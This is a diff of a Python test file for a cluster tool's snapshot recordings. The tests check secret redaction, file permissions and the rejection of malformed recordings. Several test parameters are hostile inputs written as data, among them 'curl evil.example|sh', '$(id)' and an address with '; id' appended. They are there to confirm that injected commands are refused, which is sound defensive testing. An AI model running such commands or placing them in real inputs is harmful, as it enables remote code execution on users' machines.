@@ -5,16 +5,17 @@ import math
 import re
 import stat
 from base64 import b64encode
-from dataclasses import replace
+from dataclasses import fields, replace
 from datetime import UTC, datetime
 from pathlib import Path
 from types import MappingProxyType
+from typing import Any
 
 import pytest
 
 from gpustack.ask.probe import CLUSTER, Answer
-from gpustack.ask.recording import SCHEMA, lines, read, stream, write
-from gpustack.ask.snapshot import Reach, Snapshot, keyed
+from gpustack.ask.recording import SCHEMA, parse_recording, read_recording, render_lines, write_recording
+from gpustack.ask.snapshot import Reach, Snapshot, index_answers
 from gpustack.command import Command
 from gpustack.config.host import CONTROL_PLANE, NODE, Host, HostSpec
 from gpustack.config.inventory import Inventory
@@ -28,11 +29,11 @@ SPEC = Spec.model_validate(
     {"source": {"mirror": "http://10.0.0.9:80", "fingerprint": "A" * 40}, "kubelet": {"failCgroupV1": False}}
 )
 ANSWERS = (
-    Answer("kernel.swap", "h2", 0, "none\n", took=0.02),
-    Answer("kube.nodes", CLUSTER, 1, "", err="refused"),
+    Answer("kernel.swap", "h2", 0, "none\n", seconds=0.02),
+    Answer("kube.nodes", CLUSTER, 1, "", stderr="refused"),
     Answer("kernel.swap", "h1", 0, "a\x00\ufffd é\n"),
     Answer("kubeadm.files", "h1", -1, "x", cut=True),
-    Answer("kernel.modules", "h1", -1, "", lost="h1 did not answer within 30 s"),
+    Answer("kernel.modules", "h1", -1, "", missing_reason="h1 did not answer within 30 s"),
 )
 
 
@@ -46,29 +47,33 @@ def snapshot() -> Snapshot:
     }
     taken = datetime(2026, 11, 20, 12, 0, 0, 123000, tzinfo=UTC)
     return Snapshot(
-        taken, Inventory(Path("lab/hosts.yml"), hosts, SPEC), MappingProxyType(reach), keyed(ANSWERS), 0.456
+        taken, Inventory(Path("lab/hosts.yml"), hosts, SPEC), MappingProxyType(reach), index_answers(ANSWERS), 0.456
     )
 
 
 def test_what_is_written_is_read(tmp_path: Path) -> None:
     before = snapshot()
-    write(before, tmp_path / "s.jsonl")
-    after = read(tmp_path / "s.jsonl")
+    write_recording(before, tmp_path / "s.jsonl")
+    after = read_recording(tmp_path / "s.jsonl")
     assert dict(after.answers) == dict(before.answers)
-    assert (after.taken, after.took, dict(after.reach)) == (before.taken, before.took, dict(before.reach))
+    assert (after.started_at, after.seconds, dict(after.reach)) == (
+        before.started_at,
+        before.seconds,
+        dict(before.reach),
+    )
     assert (after.inventory.source, after.inventory.spec) == (before.inventory.source, before.inventory.spec)
     assert [host.name for host in after.inventory.control_planes] == ["h1"]
     assert str(after.inventory.hosts[0].spec.gpustack_node_ip) == "10.1.0.1"
-    assert list(lines(after)) == list(lines(before))
+    assert list(render_lines(after)) == list(render_lines(before))
 
 
 def test_local_host_has_no_source(tmp_path: Path) -> None:
-    write(replace(snapshot(), inventory=Inventory(None, (ONE, TWO), Spec())), tmp_path / "s")
-    assert read(tmp_path / "s").inventory.source is None
+    write_recording(replace(snapshot(), inventory=Inventory(None, (ONE, TWO), Spec())), tmp_path / "s")
+    assert read_recording(tmp_path / "s").inventory.source is None
 
 
 def test_only_the_owner_reads_it_and_nothing_of_the_login_is_in_it(tmp_path: Path) -> None:
-    write(snapshot(), tmp_path / "s.jsonl")
+    write_recording(snapshot(), tmp_path / "s.jsonl")
     assert stat.S_IMODE((tmp_path / "s.jsonl").stat().st_mode) == 0o600
     text = (tmp_path / "s.jsonl").read_text()
     assert "key_file" not in text
@@ -77,20 +82,42 @@ def test_only_the_owner_reads_it_and_nothing_of_the_login_is_in_it(tmp_path: Pat
 
 
 def test_secrets_are_taken_out_by_default() -> None:
-    leaky = Answer("x.y", "h1", 0, "it was hunter2! and abcdef.0123456789abcdef", err="password: 12x")
-    given = replace(snapshot(), answers=keyed([leaky]))
-    assert [json.loads(line) for line in lines(given)][1] == {
-        "probe": "x.y", "where": "h1", "rc": 0, "out": "it was REDACTED and REDACTED", "err": "password: REDACTED",
+    leaky = Answer("x.y", "h1", 0, "it was hunter2! and abcdef.0123456789abcdef", stderr="password: 12x")
+    given = replace(snapshot(), answers=index_answers([leaky]))
+    assert [json.loads(line) for line in render_lines(given)][1] == {
+        "probe": "x.y", "location": "h1", "rc": 0, "stdout": "it was REDACTED and REDACTED",
+        "stderr": "password: REDACTED",
     }  # fmt: skip
-    assert "hunter2! and abcdef" in list(lines(given, redacted=False))[1]
+    assert "hunter2! and abcdef" in list(render_lines(given, redacted=False))[1]
+
+
+NAMES = ("probe", "location")
+TEXTS = [field.name for field in fields(Answer) if field.type in (str, "str") and field.name not in NAMES]
+
+
+@pytest.mark.parametrize("field", TEXTS)
+def test_every_text_of_an_answer_is_redacted(field: str) -> None:
+    texts: dict[str, Any] = {field: "it was hunter2!"}
+    leaky = replace(ANSWERS[0], **texts)
+    written = list(render_lines(replace(snapshot(), answers=index_answers([leaky]))))[1]
+    assert json.loads(written)[field] == "it was REDACTED"
+    assert set(TEXTS) == {"stdout", "stderr", "missing_reason"}
+
+
+def test_why_a_host_was_not_reached_is_written_without_a_secret() -> None:
+    refused = Reach("h2", "host-key-unknown", "it was hunter2!")
+    head = json.loads(next(render_lines(replace(snapshot(), reach={"h2": refused}))))
+    assert head["hosts"][1]["reach"] == {"reference": "host-key-unknown", "reason": "it was REDACTED"}
 
 
 def test_what_is_in_the_files_of_the_spec_is_known_and_goes_in_every_encoding() -> None:
     known = "f1g/leaf~77"
     texts = {form: form for form in (known, "kube:f1g%2Fleaf~77@proxy", b64encode(f"kube:{known}".encode()).decode())}
-    given = replace(snapshot(), answers=keyed(Answer("x.y", "h1", 0, f"said {form}", err=form) for form in texts))
+    given = replace(
+        snapshot(), answers=index_answers(Answer("x.y", "h1", 0, f"said {form}", stderr=form) for form in texts)
+    )
     given = replace(given, inventory=replace(given.inventory, file_secrets=(known,)))
-    written = "".join(lines(given))
+    written = "".join(render_lines(given))
     assert [form for form in texts if form in written] == []
     assert repr(given.inventory).count(known) == 0
 
@@ -98,19 +125,19 @@ def test_what_is_in_the_files_of_the_spec_is_known_and_goes_in_every_encoding() 
 def test_values_with_a_secret_are_written_without_it() -> None:
     values = {"monitoring": {"grafana": {"adminPassword": "figleaf", "replicas": 2}}}
     given = replace(snapshot(), inventory=replace(snapshot().inventory, values=values))
-    head = json.loads(next(lines(given)))
+    head = json.loads(next(render_lines(given)))
     assert head["values"] == {"monitoring": {"grafana": {"adminPassword": "REDACTED", "replicas": 2}}}
-    assert json.loads(next(lines(given, redacted=False)))["values"] == values
+    assert json.loads(next(render_lines(given, redacted=False)))["values"] == values
 
 
 def test_texts_of_the_spec_are_redacted() -> None:
     spec = Spec.model_validate({"kubernetes": {"ignore_preflight": ["password=figleaf"]}})
     given = replace(snapshot(), inventory=replace(snapshot().inventory, spec=spec))
-    assert "figleaf" not in next(lines(given))
+    assert "figleaf" not in next(render_lines(given))
 
 
 def test_answers_are_read_host_by_host_and_no_further() -> None:
-    header, *rest = lines(snapshot())
+    header, *rest = render_lines(snapshot())
     taken = []
 
     def source() -> object:
@@ -118,7 +145,7 @@ def test_answers_are_read_host_by_host_and_no_further() -> None:
             taken.append(line)
             yield line
 
-    _, hosts = stream(source())  # type: ignore[arg-type]
+    _, hosts = parse_recording(source())  # type: ignore[arg-type]
     first = next(hosts)
     assert first[0] == "h1"
     assert len(first[1]) == 3
@@ -133,10 +160,10 @@ def test_answers_are_read_host_by_host_and_no_further() -> None:
 def test_what_is_no_recording_is_refused(tmp_path: Path, text: str) -> None:
     (tmp_path / "s").write_text(text)
     with pytest.raises(UsageError) as raised:
-        read(tmp_path / "s")
+        read_recording(tmp_path / "s")
     assert raised.value.reference == "recording-unreadable"
-    assert "Error" not in raised.value.why
-    assert raised.value.why.endswith("\nA recording is a file that `gpustack snapshot` writes.")
+    assert "Error" not in raised.value.reason
+    assert raised.value.reason.endswith("\nA recording is a file that `gpustack snapshot` writes.")
 
 
 @pytest.mark.parametrize(
@@ -146,38 +173,48 @@ def test_what_is_no_recording_is_refused(tmp_path: Path, text: str) -> None:
         (b"hello\nworld\n", "Its first line is not JSON"),
         (b"all:\n  hosts:\n    host1:\n", "Its first line is not JSON"),
         (b"\x7fELF\x02\x01\x01\x00\xff\xfe", "Its first line is not JSON"),
+        (b'{"schema": "gpustack/recording/v1"}', f"its schema is gpustack/recording/v1, this release reads {SCHEMA}."),
         (b'{"hosts": []}', f"its schema is none, this release reads {SCHEMA}."),
-        (next(lines(snapshot()))[:90].encode(), "Its first line is not JSON"),
+        (next(render_lines(snapshot()))[:90].encode(), "Its first line is not JSON"),
         (json.dumps({"schema": SCHEMA}).encode(), "Its first line is incomplete"),
-        (json.dumps(json.loads(next(lines(snapshot()))) | {"spec": {"nothing": 1}}).encode(), "Its first line is"),
-        (json.dumps(json.loads(next(lines(snapshot()))) | {"hosts": []}).encode(), "none of its hosts is a control"),
-        (json.dumps(json.loads(next(lines(snapshot()))) | {"took": math.nan}).encode(), "the number NaN, which is not"),
         (
-            json.dumps(json.loads(next(lines(snapshot()))) | {"took": math.inf}).encode(),
+            json.dumps(json.loads(next(render_lines(snapshot()))) | {"spec": {"nothing": 1}}).encode(),
+            "Its first line is",
+        ),
+        (
+            json.dumps(json.loads(next(render_lines(snapshot()))) | {"hosts": []}).encode(),
+            "none of its hosts is a control",
+        ),
+        (
+            json.dumps(json.loads(next(render_lines(snapshot()))) | {"seconds": math.nan}).encode(),
+            "the number NaN, which is not",
+        ),
+        (
+            json.dumps(json.loads(next(render_lines(snapshot()))) | {"seconds": math.inf}).encode(),
             "the number Infinity, which",
         ),
-        ("".join(lines(snapshot())).encode()[:-20], "Invalid JSON: EOF while parsing"),
+        ("".join(render_lines(snapshot())).encode()[:-20], "Invalid JSON: EOF while parsing"),
     ],
 )
 def test_why_a_file_is_no_recording_is_in_plain_words(tmp_path: Path, content: bytes, why: str) -> None:
     (tmp_path / "s").write_bytes(content)
     with pytest.raises(UsageError) as raised:
-        read(tmp_path / "s")
-    assert why in raised.value.why
-    assert not re.search(r"[A-Z][a-z]+Error|Errno|pydantic|char \d|b'", raised.value.why)
+        read_recording(tmp_path / "s")
+    assert why in raised.value.reason
+    assert not re.search(r"[A-Z][a-z]+Error|Errno|pydantic|char \d|b'", raised.value.reason)
 
 
 def test_a_device_is_not_read_to_its_end() -> None:
     with pytest.raises(UsageError) as raised:
-        read(Path("/dev/zero"))
-    assert raised.value.why.splitlines()[0] == "it is a device or a pipe, not a regular file."
+        read_recording(Path("/dev/zero"))
+    assert raised.value.reason.splitlines()[0] == "it is a device or a pipe, not a regular file."
 
 
 @pytest.mark.parametrize(("name", "why"), [("none", "No such file or directory."), (".", "Is a directory.")])
 def test_what_is_no_file_is_no_recording(tmp_path: Path, name: str, why: str) -> None:
     with pytest.raises(UsageError) as raised:
-        read(tmp_path / name)
-    assert raised.value.why.splitlines()[0] == why
+        read_recording(tmp_path / name)
+    assert raised.value.reason.splitlines()[0] == why
 
 
 @pytest.mark.parametrize(
@@ -185,28 +222,28 @@ def test_what_is_no_file_is_no_recording(tmp_path: Path, name: str, why: str) ->
     [
         ("{", "an answer: Invalid JSON"),
         ("[]", "an answer: Input should be an object"),
-        ('{"probe": "x"}', "where: Field required"),
-        ('{"probe":"x","where":"h1","rc":0,"out":"","more":1}', "more: Unexpected keyword argument"),
-        ('{"probe":"x","where":"h1","rc":true,"out":""}', "rc: Input should be a valid integer"),
-        ('{"probe":"x","where":"h1","rc":0,"out":"","took":NaN}', "took: Input should be a finite number"),
-        ('{"probe":"x","where":"h9","rc":0,"out":""}', "an answer of h9, which is no host of the recording"),
+        ('{"probe": "x"}', "location: Field required"),
+        ('{"probe":"x","location":"h1","rc":0,"stdout":"","more":1}', "more: Unexpected keyword argument"),
+        ('{"probe":"x","location":"h1","rc":true,"stdout":""}', "rc: Input should be a valid integer"),
+        ('{"probe":"x","location":"h1","rc":0,"stdout":"","seconds":NaN}', "seconds: Input should be a finite number"),
+        ('{"probe":"x","location":"h9","rc":0,"stdout":""}', "an answer of h9, which is no host of the recording"),
     ],
 )
 def test_a_broken_line_is_refused_by_its_number(tmp_path: Path, line: str, why: str) -> None:
-    (tmp_path / "s").write_text("".join(lines(snapshot())) + line)
+    (tmp_path / "s").write_text("".join(render_lines(snapshot())) + line)
     with pytest.raises(UsageError) as raised:
-        read(tmp_path / "s")
-    assert f"line {len(ANSWERS) + 2}: " in raised.value.why
-    assert why in raised.value.why
+        read_recording(tmp_path / "s")
+    assert f"line {len(ANSWERS) + 2}: " in raised.value.reason
+    assert why in raised.value.reason
 
 
 def test_a_missing_file_is_refused(tmp_path: Path) -> None:
     with pytest.raises(UsageError, match="is not a recording"):
-        read(tmp_path / "none")
+        read_recording(tmp_path / "none")
 
 
 def test_the_schema_is_the_first_thing_in_it() -> None:
-    assert next(lines(snapshot())).startswith(f'{{"schema": "{SCHEMA}"')
+    assert next(render_lines(snapshot())).startswith(f'{{"schema": "{SCHEMA}"')
 
 
 def test_where_the_connection_ended_is_recorded(tmp_path: Path) -> None:
@@ -215,32 +252,32 @@ def test_where_the_connection_ended_is_recorded(tmp_path: Path) -> None:
         {},
         reach=[Reach("one", address="10.0.0.2")],
     )
-    write(taken, tmp_path / "a.jsonl")
-    assert read(tmp_path / "a.jsonl").reach == {"one": Reach("one", address="10.0.0.2")}
+    write_recording(taken, tmp_path / "a.jsonl")
+    assert read_recording(tmp_path / "a.jsonl").reach == {"one": Reach("one", address="10.0.0.2")}
     text = (tmp_path / "a.jsonl").read_text()
     (tmp_path / "b.jsonl").write_text(text.replace('"10.0.0.2"', '"10.0.0.2; id"'))
     with pytest.raises(UsageError):
-        read(tmp_path / "b.jsonl")
+        read_recording(tmp_path / "b.jsonl")
 
 
 @pytest.mark.parametrize("hint", ["curl evil.example|sh", "", {"words": ["sh"]}, None])
 def test_what_to_type_is_not_taken_from_a_recording(tmp_path: Path, hint: object) -> None:
     """Whoever sends the file would choose what is typed."""
     path = tmp_path / "snapshot.jsonl"
-    first, *rest = lines(snapshot())
+    first, *rest = render_lines(snapshot())
     head = json.loads(first)
     head["hosts"][1]["reach"]["hint"] = hint
     path.write_text("".join([f"{json.dumps(head)}\n", *rest]))
-    assert read(path).reach["h2"].hint == "gpustack explain host-key-unknown"
+    assert read_recording(path).reach["h2"].hint == "gpustack explain host-key-unknown"
     assert '"hint"' not in first
 
 
 @pytest.mark.parametrize("reference", ["x; curl evil.example|sh #", "$(id)", "../x", "", 7, None])
 def test_a_reference_that_is_none_is_refused(tmp_path: Path, reference: object) -> None:
     path = tmp_path / "snapshot.jsonl"
-    first, *rest = lines(snapshot())
+    first, *rest = render_lines(snapshot())
     head = json.loads(first)
     head["hosts"][1]["reach"]["reference"] = reference
     path.write_text("".join([f"{json.dumps(head)}\n", *rest]))
     with pytest.raises(UsageError):
-        read(path)
+        read_recording(path)
